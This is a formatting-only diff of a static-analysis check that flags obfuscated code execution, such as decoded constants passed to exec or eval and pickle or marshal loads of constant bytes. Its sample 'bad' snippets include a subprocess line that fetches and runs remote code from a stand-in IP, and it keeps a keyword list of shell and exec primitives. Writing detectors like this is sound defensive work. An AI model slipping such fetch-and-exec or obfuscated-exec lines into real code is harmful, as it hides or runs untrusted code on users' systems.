@@ -22,7 +22,21 @@ from codeguard.model import Confidence, Severity
 from codeguard.syntax.unit import Unit
 
 SELF = "CGM007"
-SUSPICIOUS = ("exec", "eval", "compile", "FunctionType", "loads", "getattr", "__import__", "globals", "system", "popen", "subprocess", "pty", "-c")
+SUSPICIOUS = (
+    "exec",
+    "eval",
+    "compile",
+    "FunctionType",
+    "loads",
+    "getattr",
+    "__import__",
+    "globals",
+    "system",
+    "popen",
+    "subprocess",
+    "pty",
+    "-c",
+)
 BYTE_LOADERS = {"pickle.loads", "dill.loads", "cloudpickle.loads", "_pickle.loads", "marshal.loads"}
 
 
@@ -43,7 +57,12 @@ def find(unit: Unit) -> Iterator[Hit]:
             told.add(id(call))
             constant = _blob(source, unit)
             how = f"This decodes {'a constant' if constant else 'data'} and runs the result as code, so that no reader sees what it does"
-            yield Hit(call, how, severity=None if constant else Severity.MEDIUM, confidence=None if constant else Confidence.MEDIUM)
+            yield Hit(
+                call,
+                how,
+                severity=None if constant else Severity.MEDIUM,
+                confidence=None if constant else Confidence.MEDIUM,
+            )
         elif layer is not None:
             said = _says(layer.text)
             if said:
@@ -57,7 +76,12 @@ def find(unit: Unit) -> Iterator[Hit]:
             yield Hit(command.call, f"This runs a hidden command, which reads `{shown(command.text)}`")
     for name, call in known.of(BYTE_LOADERS):
         if call.args and name != "marshal.loads" and isinstance(value_of(call.args[0].value, unit), bytes):
-            yield Hit(call, f"`{name}` of a constant runs whatever its bytes say, which no reader sees", severity=Severity.HIGH, confidence=Confidence.MEDIUM)
+            yield Hit(
+                call,
+                f"`{name}` of a constant runs whatever its bytes say, which no reader sees",
+                severity=Severity.HIGH,
+                confidence=Confidence.MEDIUM,
+            )
 
 
 def _says(text: str) -> str:
@@ -74,7 +98,12 @@ def _inside_another(call: cst.Call, unit: Unit, told: set[int]) -> bool:
 
 
 def _decodes(node: cst.BaseExpression, unit: Unit) -> bool:
-    return computed(node, unit) and "decoded" in unit.fact(reach).kinds(node) and "remote" not in unit.fact(reach).kinds(node) and _blob(node, unit)
+    return (
+        computed(node, unit)
+        and "decoded" in unit.fact(reach).kinds(node)
+        and "remote" not in unit.fact(reach).kinds(node)
+        and _blob(node, unit)
+    )
 
 
 def _readable(node: cst.BaseExpression, unit: Unit) -> bool:
@@ -82,7 +111,11 @@ def _readable(node: cst.BaseExpression, unit: Unit) -> bool:
     text = text_of(value_of(node, unit)) or ""
     pieces = unit.fact(reach).constants(node)
     longest = max((len(p) for p in _literals(node, unit)), default=0)
-    return len(text) < 4 or (longest * 2 > len(text) and any(p and p.strip()[:20] in text for p in _literals(node, unit))) or not pieces
+    return (
+        len(text) < 4
+        or (longest * 2 > len(text) and any(p and p.strip()[:20] in text for p in _literals(node, unit)))
+        or not pieces
+    )
 
 
 def _literals(node: cst.BaseExpression, unit: Unit, hops: int = 0) -> list[str]:
@@ -104,13 +137,19 @@ def _blob(node: cst.BaseExpression, unit: Unit) -> bool:
     """Whether a constant of some length is what is decoded."""
     if any(len(text) >= 8 for text in _literals(node, unit)):
         return True
-    return any(isinstance(n, cst.SimpleString) and len(n.value) > 10 for n in unit.nodes(cst.SimpleString) if "b" in n.prefix.lower() and _reaches(n, node, unit))
+    return any(
+        isinstance(n, cst.SimpleString) and len(n.value) > 10
+        for n in unit.nodes(cst.SimpleString)
+        if "b" in n.prefix.lower() and _reaches(n, node, unit)
+    )
 
 
 def _reaches(blob: cst.SimpleString, node: cst.BaseExpression, unit: Unit) -> bool:
     names = {part.value for part in _names(node, unit, 0)}
     above = unit.parent(blob)
-    return isinstance(above, cst.Assign) and any(isinstance(t.target, cst.Name) and t.target.value in names for t in above.targets)
+    return isinstance(above, cst.Assign) and any(
+        isinstance(t.target, cst.Name) and t.target.value in names for t in above.targets
+    )
 
 
 def _names(node: cst.BaseExpression, unit: Unit, hops: int) -> list[cst.Name]:
@@ -136,21 +175,40 @@ CHECK = Check(
     fix="Ship the code in plain text, where it can be reviewed.",
     bad=(
         Bad("import base64\nexec(base64.b64decode('cHJpbnQoJ2hpIHRoZXJlJyk='))  # finding\n"),
-        Bad("import marshal, types\nblob = b'c\\x00\\x00\\x00\\x00EXAMPLE'\n\ndef boot():\n    f = types.FunctionType(marshal.loads(blob), globals())  # finding\n    f()\n"),
-        Bad("import zlib\nB = b'x\\x9c\\x03\\x00\\x00\\x00\\x00\\x01'\ngetattr(__import__('builtins'), 'ex' + 'ec')(zlib.decompress(B))  # finding\n"),
+        Bad(
+            "import marshal, types\nblob = b'c\\x00\\x00\\x00\\x00EXAMPLE'\n\ndef boot():\n    f = types.FunctionType(marshal.loads(blob), globals())  # finding\n    f()\n"
+        ),
+        Bad(
+            "import zlib\nB = b'x\\x9c\\x03\\x00\\x00\\x00\\x00\\x01'\ngetattr(__import__('builtins'), 'ex' + 'ec')(zlib.decompress(B))  # finding\n"
+        ),
         Bad("k = 7\nd = [119, 117, 110, 105, 115, 47, 54, 46]\neval(''.join(chr(c ^ k) for c in d))  # finding\n"),
         Bad("import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))  # finding\n"),
         Bad("exec(')1(tnirp'[::-1])  # finding\n"),
         Bad("import os, base64\nos.system(base64.b64decode('aWQgLXVuIHwgY2F0').decode())  # finding\n"),
-        Bad("import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import urllib.request as u;exec(u.urlopen(\"http://192.0.2.1/a\").read())'])  # finding\n"),
-        Bad("import base64\n\ndef f(s):\n    return base64.b64decode(s).decode()\n\ncode = f('cHJpbnQoJ2hpIHRoZXJlJyk=')\nexec(compile(code, '<s>', 'exec'))  # finding\n"),
+        Bad(
+            "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import urllib.request as u;exec(u.urlopen(\"http://192.0.2.1/a\").read())'])  # finding\n"
+        ),
+        Bad(
+            "import base64\n\ndef f(s):\n    return base64.b64decode(s).decode()\n\ncode = f('cHJpbnQoJ2hpIHRoZXJlJyk=')\nexec(compile(code, '<s>', 'exec'))  # finding\n"
+        ),
     ),
     good=(
-        Good("import base64\n\ndef header(user, pw):\n    return 'Basic ' + base64.b64encode(f'{user}:{pw}'.encode()).decode()\n\ndef png(s):\n    return base64.b64decode(s.split(',', 1)[1])\n"),
+        Good(
+            "import base64\n\ndef header(user, pw):\n    return 'Basic ' + base64.b64encode(f'{user}:{pw}'.encode()).decode()\n\ndef png(s):\n    return base64.b64decode(s.split(',', 1)[1])\n"
+        ),
         Good("import codecs\n\ndef spoiler(text):\n    return codecs.encode(text, 'rot13')\n"),
         Good("import zlib\n\ndef index(blob):\n    return zlib.decompress(blob).decode().splitlines()\n"),
-        Good("TEMPLATE = 'def f(x):\\n    return x + %d\\n'\n\ndef make(n):\n    space = {}\n    exec(TEMPLATE % n, space)\n    return space['f']\n"),
-        Good("import base64\nICON = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk')\n"),
+        Good(
+            "TEMPLATE = 'def f(x):\\n    return x + %d\\n'\n\ndef make(n):\n    space = {}\n    exec(TEMPLATE % n, space)\n    return space['f']\n"
+        ),
+        Good(
+            "import base64\nICON = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk')\n"
+        ),
     ),
-    misses=(Miss("import base64\nfrom store import load\n\nload(base64.b64decode('cHJpbnQoJ2hpJyk='))  # finding\n", why="what a function of another file does with its argument is not known"),),
+    misses=(
+        Miss(
+            "import base64\nfrom store import load\n\nload(base64.b64decode('cHJpbnQoJ2hpJyk='))  # finding\n",
+            why="what a function of another file does with its argument is not known",
+        ),
+    ),
 )
